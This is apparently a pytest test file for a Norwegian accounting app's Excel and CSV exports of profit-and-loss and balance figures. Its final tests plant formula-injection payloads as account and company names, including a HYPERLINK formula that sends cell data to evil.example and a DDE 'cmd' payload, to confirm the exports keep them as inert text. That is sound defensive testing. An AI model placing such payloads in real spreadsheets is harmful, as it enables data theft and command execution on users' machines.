"""XLSX and CSV exports of the P&L and the balance sheet, read back cell by cell."""

import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django_scopes import scope

from ledger.models import SyncRun
from tests.ledger.figures_data import BALANCE_CHANGES, PNL_NAMES, seed_changes


def _workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _body(sheet):
    """(header row number, rows under it as lists of values)."""
    header = int(sheet.freeze_panes[1:]) - 1
    assert sheet.freeze_panes == f"C{header + 1}"  # labels and headings stay in view
    rows = [list(r) for r in sheet.iter_rows(min_row=header + 1, values_only=True)]
    return header, rows


def test_pnl_xlsx_cell_by_cell(client, anders, pnl_company):
    client.force_login(anders)
    sheet = _workbook(client.get(f"/c/{pnl_company.slug}/resultat/excel/?ar=2025&mnd=3"))
    header, rows = _body(sheet)
    headings = [c.value for c in sheet[header]]
    assert len(headings) == 2 + 3 + 4  # account, name, Jan–Mar, YTD, last year, variance, %
    assert sheet.cell(row=1, column=1).font.bold
    # Columns: number, label, Jan, Feb, Mar, YTD, last year, variance, variance share.
    by_label = {(r[0], r[1]): r for r in rows}
    revenue = rows[0]
    assert revenue[0] is None
    assert revenue[2:8] == [100_000, 125_000, 80_000, 305_000, 250_000, 55_000]
    assert revenue[8] == pytest.approx(0.22)
    assert by_label[(3000, PNL_NAMES[3000])][2:7] == [100_000, 120_000, 80_000, 300_000, 250_000]
    assert by_label[(4300, PNL_NAMES[4300])][5] == 120_000
    numbers = [r[0] for r in rows if r[0] is not None]
    assert numbers == [3000, 3900, 4300, 5000, 6010, 6300, 8050, 8150, 8300]
    net = rows[-1]
    assert net[2:8] == [17_500, 32_500, -1_000, 49_000, 41_500, 7_500]
    assert all(isinstance(v, int | float) for v in net[2:9])
    # Totals are the sum of the groups above them.
    operating = rows[[r[0] for r in rows].index(6300) + 1]
    assert operating[5] == 305_000 - 120_000 - 90_000 - 6_000 - 30_000
    # Number formats: thousands grouping, red negatives; bold totals.
    net_row = header + len(rows)
    assert sheet.cell(row=net_row, column=4).number_format == "#,##0.00;[Red]-#,##0.00"
    assert sheet.cell(row=net_row, column=9).number_format == "0.0%;[Red]-0.0%"
    assert sheet.cell(row=net_row, column=2).font.bold
    assert not sheet.cell(row=header + 2, column=2).font.bold  # an account row


def test_pnl_xlsx_in_raw_signs(client, anders, pnl_company):
    client.force_login(anders)
    sheet = _workbook(client.get(f"/c/{pnl_company.slug}/resultat/excel/?fortegn=tripletex"))
    _header, rows = _body(sheet)
    assert rows[0][5] == -305_000
    assert rows[-1][5] == -49_000


def test_balance_xlsx_cell_by_cell(client, anders, acme):
    with scope(company=acme):
        seed_changes(acme, BALANCE_CHANGES)
    client.force_login(anders)
    sheet = _workbook(client.get(f"/c/{acme.slug}/balanse/excel/"))
    _header, rows = _body(sheet)
    amounts = [(r[0], r[2], r[3], r[4]) for r in rows]
    assert amounts[0] == (None, 44_000, 50_000, -6_000)  # fixed assets
    assert (1920, 560_000, 450_000, 110_000) in amounts
    totals = [r for r in rows if r[0] is None and r[2] == 624_000]
    assert len(totals) == 2  # total assets, total equity and liabilities
    check = rows[-1]
    assert (check[2], check[3]) == (0, 0)


def test_csv_exports(client, anders, pnl_company):
    client.force_login(anders)
    response = client.get(f"/c/{pnl_company.slug}/resultat/csv/")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    lines = text.splitlines()
    account = next(line for line in lines if line.startswith("3000;"))
    assert account.split(";")[2:7] == [
        "100000,00",
        "120000,00",
        "80000,00",
        "300000,00",
        "250000,00",
    ]
    assert lines[-1].split(";")[2:8] == [
        "17500,00",
        "32500,00",
        "-1000,00",
        "49000,00",
        "41500,00",
        "7500,00",
    ]
    balance = client.get(f"/c/{pnl_company.slug}/balanse/csv/")
    assert balance.status_code == 200


def test_export_values_are_exact(client, anders, acme):
    with scope(company=acme):
        seed_changes(acme, {3000: {__import__("datetime").date(2025, 1, 1): Decimal("-0.07")}})
    client.force_login(anders)
    _header, rows = _body(_workbook(client.get(f"/c/{acme.slug}/resultat/excel/")))
    assert rows[1][2] == pytest.approx(0.07)


def test_names_that_look_like_formulas_stay_text(client, anders, acme):
    import datetime

    with scope(company=acme):
        seed_changes(acme, {3000: {datetime.date(2025, 1, 1): -100}}, names={3000: "=HYPERLINK(1)"})
    client.force_login(anders)
    sheet = _workbook(client.get(f"/c/{acme.slug}/resultat/excel/"))
    header, _rows = _body(sheet)
    cell = sheet.cell(row=header + 2, column=2)
    assert cell.value == "=HYPERLINK(1)"
    assert cell.data_type == "s"
    text = client.get(f"/c/{acme.slug}/resultat/csv/").content.decode("utf-8")
    assert "3000;'=HYPERLINK(1);" in text


def test_exports_stamp_the_figures_as_of_in_oslo_time(client, anders, pnl_company):
    # 04:30 UTC on 2 April 2025 is 06:30 in Oslo (summer time, UTC+2).
    finished = datetime.datetime(2025, 4, 2, 4, 30, tzinfo=datetime.UTC)
    with scope(company=pnl_company):
        SyncRun.objects.create(
            company=pnl_company, trigger="schedule", status="succeeded", finished_at=finished
        )
    client.force_login(anders)

    csv_text = client.get(f"/c/{pnl_company.slug}/resultat/csv/").content.decode("utf-8-sig")
    sheet = _workbook(client.get(f"/c/{pnl_company.slug}/balanse/excel/"))

    stamp = next(line for line in csv_text.splitlines() if "06:30" in line or "04:30" in line)
    assert "2. april 2025 06:30" in stamp, stamp
    cells = [sheet.cell(row=r, column=1).value or "" for r in range(1, 8)]
    assert any("2. april 2025 06:30" in cell for cell in cells), cells


# Text that a spreadsheet would run or misread if it were not written as text: formulas, an error
# value, and each of the first characters OWASP's CSV-injection guidance lists.
HOSTILE_NAMES = {
    3000: '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    3100: "@SUM(1+1)",
    3200: "+1+cmd|' /C calc'!A0",
    3300: "-2+3",
    3400: "\t=1+1",
    3500: "\r=1+1",
    3600: "#N/A",
}
HOSTILE_COMPANY = '=HYPERLINK("https://evil.example/","Acme")'


@pytest.fixture
def hostile_company(acme):
    acme.name = HOSTILE_COMPANY
    acme.save(update_fields=["name"])
    month = datetime.date(2025, 1, 1)
    with scope(company=acme):
        seed_changes(
            acme,
            {
                **{number: {month: -100} for number in HOSTILE_NAMES},
                1920: {month: 700},
                2000: {month: -700},
            },
            names={**HOSTILE_NAMES, 1920: "Bank\x01\x0b konto", 2000: "=1+1"},
        )
    return acme


@pytest.mark.parametrize("path", ["resultat/excel/", "balanse/excel/"])
def test_every_text_cell_of_a_workbook_is_text_never_a_formula(
    client, anders, hostile_company, path
):
    client.force_login(anders)
    sheet = _workbook(client.get(f"/c/{hostile_company.slug}/{path}"))
    assert sheet["A2"].value == HOSTILE_COMPANY  # the company name, in A2
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    kinds = {cell.data_type for cell in cells}
    assert kinds <= {"s", "n"}, kinds  # no formula ("f") and no error value ("e")
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and c.data_type != "s"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    if path.startswith("resultat"):
        # XML keeps a carriage return as a line feed when the file is read back.
        assert {name.replace("\r", "\n") for name in HOSTILE_NAMES.values()} <= texts
    else:
        # Control characters a worksheet cannot hold are dropped instead of failing the export.
        assert {"Bank konto", "=1+1"} <= texts


def test_the_workbook_file_holds_no_formula_at_all(client, anders, hostile_company):
    import zipfile

    client.force_login(anders)
    response = client.get(f"/c/{hostile_company.slug}/resultat/excel/")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = "".join(archive.read(name).decode() for name in sheets)
    assert sheets
    assert "<f>" not in xml
    assert "<f " not in xml
    assert 't="e"' not in xml


@pytest.mark.parametrize("path", ["resultat/csv/", "balanse/csv/"])
def test_every_text_field_of_a_csv_that_a_spreadsheet_would_run_is_escaped(
    client, anders, hostile_company, path
):
    import csv

    client.force_login(anders)
    response = client.get(f"/c/{hostile_company.slug}/{path}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'" + HOSTILE_COMPANY]
    fields = [field for row in rows for field in row]
    for field in fields:
        if field.startswith(("=", "+", "@", "\t", "\r")):
            raise AssertionError(f"unescaped field {field!r}")
        if field.startswith("-"):
            # Only a negative amount may start with a minus.
            assert re.fullmatch(r"-\d+,\d\d", field), field
    if path.startswith("resultat"):
        assert {"'" + name for name in HOSTILE_NAMES.values() if name[0] != "#"} <= set(fields)
        assert "#N/A" in fields  # not a formula character: a CSV field stays as it is
